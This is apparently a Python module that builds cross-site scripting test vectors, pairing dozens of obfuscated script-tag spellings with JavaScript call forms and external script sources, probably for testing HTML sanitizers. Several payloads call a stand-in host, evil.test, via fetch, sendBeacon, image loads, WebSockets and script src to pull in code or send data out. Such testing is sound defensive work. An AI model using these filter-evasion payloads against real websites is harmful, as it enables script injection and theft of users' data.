"""Scripts by their own element, in every spelling that a parser or a careless filter may take for one."""

from collections.abc import Iterator

CALLS = (
    "hit(§)",
    "alert(§)",
    "hit`§`",
    "hit.call(0,§)",
    "(hit)(§)",
    "self['hit'](§)",
    "top.hit(§)",
    "window?.hit?.(§)",
    "[§].forEach(hit)",
    "onerror=hit;throw §",
    "eval('hit(§)')",
    "setTimeout('hit(§)')",
    "Function('hit(§)')()",
    "import('//evil.test/§')",
    "fetch('//evil.test/§')",
    "new Image().src='//evil.test/§'",
    "location='//evil.test/§'",
    "open('//evil.test/§')",
    "navigator.sendBeacon('//evil.test/§')",
    "new WebSocket('ws://evil.test/§')",
    "document.write('<img src=//evil.test/§>')",
    "document.body.innerHTML=§",
    "prompt(§);confirm(§);print()",
    "\\u0068it(§)",
    "/*--></script>*/hit(§)",
    "<!--\nhit(§)\n//-->",
    "<![CDATA[\nhit(§)\n//]]>",
    "'</b>';hit(§)",
)

OPENINGS = (
    "<script>",
    "<SCRIPT>",
    "<ScRiPt>",
    "<script >",
    "<script\n>",
    "<script\t>",
    "<script\f>",
    "<script\r>",
    "<script/>",
    "<script//>",
    "<script/x>",
    "<script x>",
    "<script x='>'>",
    '<script x=">">',
    "<script x=`>`>",
    "<script type=module>",
    "<script type=text/javascript>",
    "<script type=''>",
    "<script language=javascript>",
    "<script async>",
    "<script defer=defer>",
    "<script nonce=x>",
    "<script\x00>",
    "<scr\x00ipt>",
    "<\x00script>",
    "<<script>",
    "<><script>",
    "<b<script>",
    "<b><script>",
    "<a title='<b>'><script>",
    "<scr<script>ipt>",
    "<scr<b>ipt><script>",
    "< script>",
    "</script><script>",
    "<script\u200b>",
    "<scr\u00adipt>",
    "<\u017fcript>",
    "<scr\u0131pt>",
    "\uff1cscript\uff1e",
    "\u2039script\u203a",
    "&lt;script&gt;",
    "&#60;script&#62;",
    "&#x3C;script&#x3E;",
    "%3Cscript%3E",
    "\\x3cscript\\x3e",
    "\\u003cscript\\u003e",
    "+ADw-script+AD4-",
    "<svg><script>",
    "<svg><script/>",
    "<math><script>",
    "<svg:script>",
    "<html:script>",
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>",
    "<?xml version='1.0'?><script>",
    "<table><script>",
    "<select><script>",
    "<template><script>",
    "<frameset><script>",
    "<!--><script>",
    "<!---><script>",
    "<![CDATA[><script>",
)

CLOSINGS = ("</script>", "</SCRIPT >", "</script\n>", "</script/x>", "</script", "")

SOURCES = (
    "//evil.test/§.js",
    "http://evil.test/§.js",
    "https://evil.test/§.js",
    "\\\\evil.test\\§.js",
    "/\\evil.test/§.js",
    "http:evil.test/§.js",
    "//evil\u3002test/§.js",
    "data:text/javascript,hit(§)",
    "data:,hit(§)",
    "data:text/javascript;base64,aGl0KDEp",
    "&#47;&#47;evil.test/§.js",
    "&sol;&sol;evil.test&sol;§",
)

SOURCED = (
    "<script src={}></script>",
    '<script src="{}"></script>',
    "<script src='{}'></script>",
    "<script/src={}></script>",
    "<script src={} ",
    "<script src={}>",
    "<script a=1 src={}></script>",
    "<script type=module src={}></script>",
    "<svg><script href={}></script>",
    "<svg><script xlink:href={}/>",
    "<script src= \n{}\t></script>",
    "<SCRIPT SRC={}></SCRIPT>",
)


def vectors() -> Iterator[str]:
    for row, opening in enumerate(OPENINGS):
        for step in range(2):
            yield f"{opening}{CALLS[step]}{CLOSINGS[(row + 2 * step) % len(CLOSINGS)]}"
    for call in CALLS:
        for opening in ("<script>", "<svg><script>", "<b>*<script>", "Zie <SCRIPT\n"):
            yield f"{opening}{'>' if opening.endswith(chr(10)) else ''}{call}</script>"
    for row, sourced in enumerate(SOURCED):
        yield from (sourced.format(source) for source in SOURCES[row % 2 :: 2])
